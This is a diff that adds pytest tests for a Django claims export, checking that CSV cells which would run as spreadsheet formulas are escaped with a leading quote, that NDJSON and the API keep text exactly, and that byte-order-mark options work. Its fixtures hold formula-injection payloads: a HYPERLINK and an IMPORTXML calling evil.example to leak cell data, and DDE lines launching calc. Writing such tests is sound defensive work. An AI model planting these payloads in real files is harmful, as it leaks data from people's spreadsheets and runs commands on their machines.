@@ -1,15 +1,18 @@
 """The streamed export: row counts, CSV quoting, NDJSON lines, filters and memory that does not grow."""
 
+import codecs
 import csv
 import gc
 import io
 import json
 import tracemalloc
+from decimal import Decimal
 
 import pytest
 from django.http import StreamingHttpResponse
 
 from claims.choices import Verdict
+from claims.models import Tag
 from tests import factories
 
 NASTY = 'He said "yes, 100%",\nthen: 处理时间超过十秒，"对吗"？'
@@ -104,3 +107,84 @@ def test_memory_does_not_grow_with_the_number_of_claims(client, db, settings):
     # Twice the claims, twice the output: a streamed export holds a few chunks of rows at a time, whatever the
     # size of the file, so its peak stays where it was (holding the file would double it).
     assert full_peak < 1.25 * half_peak, (half_peak, full_peak)
+
+
+# --- Issue 14: what a spreadsheet does with the CSV -------------------------------------------------------------
+
+# Cells that Excel, LibreOffice or Sheets would run as formulas, in the fields imports and reviewers fill.
+HOSTILE = {
+    "claimant": '=HYPERLINK("https://evil.example/?leak="&A2,"李明")',
+    "quote": "+1+cmd|' /C calc'!A0",
+    "text": "-2+3+cmd|' /C calc'!A0",
+    "explanation": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "unit": "\t=1+1",
+}
+HOSTILE_TITLE = '＝IMPORTXML("https://evil.example/","//a")'
+HOSTILE_TAG = "=cmd|' /C calc'!A0"
+
+
+def csv_rows(response, *, encoding: str = "utf-8") -> dict[str, dict]:
+    text = b"".join(response.streaming_content).decode(encoding)
+    return {row["id"]: row for row in csv.DictReader(io.StringIO(text, newline=""))}
+
+
+@pytest.fixture
+def hostile(db):
+    article = factories.ArticleFactory(title=HOSTILE_TITLE)
+    claim = factories.PublishedClaimFactory(article=article, value=Decimal("-3"), **HOSTILE)
+    claim.tags.add(Tag.objects.create(name=HOSTILE_TAG))
+    return claim
+
+
+def test_csv_cells_that_would_run_as_formulas_start_with_a_quote(client, hostile):
+    row = csv_rows(client.get("/api/v1/claims/export/?format=csv"))[str(hostile.pk)]
+    for field, text in HOSTILE.items():
+        assert row[field] == "'" + text, field
+    assert row["article_title"] == "'" + HOSTILE_TITLE
+    # A figure of ours is a typed number, not text anyone typed: it stays a number a spreadsheet can add up.
+    assert row["value"] == "-3.000000"
+    # Inside the tags' JSON array the hostile tag starts no cell.
+    assert row["tags"].startswith("[")
+    assert json.loads(row["tags"]) == [HOSTILE_TAG]
+
+
+def test_ndjson_and_the_api_keep_the_same_text_exactly(client, hostile):
+    response = client.get("/api/v1/claims/export/?format=ndjson")
+    exported = json.loads(b"".join(response.streaming_content))
+    detail = client.get(f"/api/v1/claims/{hostile.pk}/").json()
+    for field, text in HOSTILE.items():
+        assert exported[field] == text, field
+        assert detail[field] == text, field
+    assert exported["article_title"] == HOSTILE_TITLE
+    assert exported["tags"] == detail["tags"] == [HOSTILE_TAG]
+    assert exported["value"] == "-3.000000"
+
+
+def test_tags_survive_the_csv_whatever_they_hold(client, db):
+    names = ["AI 视频", "sora", 'say "hi", then', "[not, json]", "a|b", "tab\there", "=1+1"]
+    tagged = factories.PublishedClaimFactory()
+    tagged.tags.add(*(Tag.objects.create(name=name) for name in names))
+    untagged = factories.PublishedClaimFactory()
+    rows = csv_rows(client.get("/api/v1/claims/export/?format=csv"))
+    assert json.loads(rows[str(tagged.pk)]["tags"]) == sorted(names)
+    assert json.loads(rows[str(untagged.pk)]["tags"]) == []
+
+
+def test_a_byte_order_mark_on_asking_so_excel_reads_chinese(client, db):
+    claim = factories.PublishedClaimFactory(claimant="李明", quote="处理时间超过十秒")
+    raw = b"".join(client.get("/api/v1/claims/export/", {"format": "csv", "bom": "1"}).streaming_content)
+    assert raw.startswith(codecs.BOM_UTF8 + b"id,status,")
+    row = csv_rows(client.get("/api/v1/claims/export/", {"bom": "true"}), encoding="utf-8-sig")[str(claim.pk)]
+    assert (row["claimant"], row["quote"]) == ("李明", "处理时间超过十秒")
+    for plain in ({}, {"bom": "0"}, {"bom": "false"}, {"bom": ""}):
+        raw = b"".join(client.get("/api/v1/claims/export/", {"format": "csv", **plain}).streaming_content)
+        assert raw.startswith(b"id,status,"), plain
+
+
+@pytest.mark.parametrize(
+    "query", [{"bom": "x"}, {"bom": "2"}, {"bom": "1\x00"}, {"format": "ndjson", "bom": "1"}], ids=str
+)
+def test_a_bad_bom_is_a_400_naming_it(client, db, query):
+    response = client.get("/api/v1/claims/export/", query)
+    assert response.status_code == 400
+    assert list(response.json()) == ["bom"]
